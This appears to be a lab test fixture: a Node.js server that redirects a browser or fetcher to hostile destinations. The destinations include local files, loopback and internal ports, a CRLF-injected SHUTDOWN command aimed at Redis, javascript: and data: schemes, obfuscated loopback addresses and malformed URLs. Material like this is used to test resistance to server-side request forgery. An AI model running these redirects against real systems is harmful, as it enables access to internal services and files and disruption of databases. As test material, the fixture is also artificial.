// exploit: sends the browser on to files, to ports of the host and of its Redis, to other schemes, in circles and to addresses that are none
// kind: lab
// sites: shop.test:3000 evil.test:3001
// steps: visit /0 | visit /1 | visit /2 | visit /3 | visit /4 | visit /5 | visit /6 | visit /7 | visit /8 | visit /9 | visit /10 | visit /11
// outcome: finished
// hides: __HOST_SECRET__
// job: {"services":["redis"]}
const places = ['file://__HOST_FILE__', 'http://127.0.0.1:__HOST_PORT__/', 'http://__HOST_ADDRESS__:__HOST_PORT__/', 'http://shop.test:6379/%0d%0aSHUTDOWN%0d%0a', 'javascript:process.exit()', '//evil.test:3001\\@127.0.0.1/', 'http://[::1]:__HOST_PORT__/', `http://shop.test/${'%'.repeat(9000)}`, 'http://0x7f.1:__HOST_PORT__/', 'http://evil.test/x\tx y\u0000', 'data:text/html,x', '/11']
require('node:net').createServer((socket) => {
  socket.on('error', () => {}).once('data', (bytes) => {
    const index = Number(/^GET \/(\d+)/.exec(bytes.toString('latin1'))?.[1] ?? 11)
    socket.end(`HTTP/1.1 ${[301, 302, 303, 307, 308][index % 5]} Away\r\nLocation: ${places[index] ?? '/'}\r\nRefresh: 0; url=${places[index]}\r\nContent-Length: 0\r\n\r\n`, 'latin1')
  })
}).listen(process.env.PORT)
